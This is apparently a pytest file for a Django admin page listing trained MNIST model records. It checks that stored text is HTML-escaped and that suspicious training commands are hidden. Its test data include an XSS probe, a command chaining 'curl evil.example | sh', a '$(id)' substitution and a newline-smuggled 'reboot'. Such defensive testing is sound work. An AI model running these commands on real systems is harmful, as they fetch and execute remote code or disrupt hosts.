"""The page of one model in the admin: everything that is known, and nothing that runs."""

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.contrib.admin.utils import help_text_for_field
from django.test import Client
from django.urls import reverse
from pytest_django import DjangoAssertNumQueries

from registry.admin.record.page import READ_ONLY
from registry.models import HubModel
from tests.registry.conftest import Save, Sync
from tests.registry.staff import LIST, act, address_of, page

pytestmark = pytest.mark.django_db
SCRIPT = "<script>alert(1)</script>"


def record_page(client: Client, name: str) -> str:
    return page(client, address_of(name))


def promote(client: Client, *names: str, **more: str) -> Any:
    return act(client, "make_default", *names, **more)


@pytest.fixture
def trained(put_here: Save, mirror: Sync) -> None:
    confusion = [[10 * (i == j) for j in range(10)] for i in range(10)]
    confusion[4][9] = 30
    put_here(
        "ada",
        97.5,
        description="Small and quick.",
        training={"epochs": 2, "command": "manage.py train_mnist --sizes 784 4 10 --epochs 2"},
        history=[
            {"epoch": 1, "loss": 0.5, "train_accuracy": 90, "validation_accuracy": 91},
            {"epoch": 2, "loss": 0.4, "train_accuracy": 92, "validation_accuracy": None},
        ],
        confusion=confusion,
        calibration={"ece": 0.012},
    )
    mirror()


def test_the_record_page_shows_everything_that_is_known(trained: None, viewer: Client) -> None:
    html = record_page(viewer, "ada")

    record = HubModel.objects.get()
    for text in (
        "Small and quick.",
        record.revision,
        record.sha256,
        record.repository.repo_id,
        "<code>manage.py train_mnist --sizes 784 4 10 --epochs 2</code>",
        "<td><code>epochs</code></td><td><code>2</code></td>",
        "validation ends at 91; training ends at 92.",
        "loss ends at 0.4.",
        "Most frequent mistake: 4 read as 9, 30 times.",
        "<td>4</td><td>25.0 %</td><td>40</td>",
        "<td><code>ece</code></td><td><code>0.012</code></td>",
    ):
        assert text in html


def test_the_record_page_leads_to_the_sheet_with_its_network_chosen(
    three: None, viewer: Client
) -> None:
    """The playground reads what is behind the #, and nothing before it."""
    assert '<a href="/#model=ada">Draw digits for ada</a>' in record_page(viewer, "ada")


def test_the_record_page_takes_thirteen_queries(
    trained: None, viewer: Client, django_assert_num_queries: DjangoAssertNumQueries
) -> None:
    path = reverse("admin:registry_hubmodel_change", args=[HubModel.objects.get().pk])

    page(viewer, path)  # the content type is looked up once per process

    with django_assert_num_queries(13):
        page(viewer, path)


@pytest.mark.parametrize("field", [*filter(callable, READ_ONLY)], ids=lambda field: field.__name__)
def test_a_computed_field_does_not_show_the_help_text_of_a_model_field(
    field: Callable[..., object],
) -> None:
    assert help_text_for_field(field.__name__, HubModel) == ""


def test_an_artifact_with_little_metadata_has_a_page(
    put_here: Save, mirror: Sync, viewer: Client
) -> None:
    put_here("ada").with_suffix(".json").write_text('{"accuracy": 90}')
    mirror()

    assert "<polyline" not in record_page(viewer, "ada")


def test_the_page_of_an_invalid_artifact_says_what_is_wrong(
    put_here: Save, mirror: Sync, viewer: Client
) -> None:
    put_here("ada").with_suffix(".json").write_text("{}")
    mirror()

    assert "The .json does not give the accuracy." in record_page(viewer, "ada")


def test_texts_of_an_artifact_are_escaped(
    folder: Path, put_here: Save, mirror: Sync, viewer: Client
) -> None:
    put_here(
        "ada",
        description=SCRIPT,
        training={SCRIPT: SCRIPT, "command": SCRIPT},
        history=[{SCRIPT: 1.0, "epoch": 1, "loss": 1e300}],
        calibration={SCRIPT: 1.0},
    )
    (folder / "README.md").write_text(SCRIPT)
    mirror()

    html = record_page(viewer, "ada") + page(viewer, LIST)

    assert SCRIPT not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


@pytest.mark.parametrize(
    "command",
    [
        "manage.py train_mnist --epochs 2; curl evil.example | sh",
        "manage.py train_mnist --name $(id)",
        "manage.py train_mnist --epochs 2\nreboot",
        "manage.py flush",
        ["manage.py train_mnist"],
    ],
    ids=str,
)
def test_a_command_that_a_shell_could_misread_is_not_shown(
    put_here: Save, mirror: Sync, viewer: Client, command: object
) -> None:
    put_here("ada", training={"command": command})
    mirror()

    assert "<code>" not in record_page(viewer, "ada")


def test_the_pages_have_no_inline_styles_and_scripts(trained: None, promoter: Client) -> None:
    html = page(promoter, LIST) + record_page(promoter, "ada")
    html += promote(promoter, "ada").content.decode()

    assert not re.search(r"\sstyle=|\son\w+=|<style|javascript:", html)
    assert all(" src=" in tag for tag in re.findall(r"<script[^>]*>", html) if "json" not in tag)
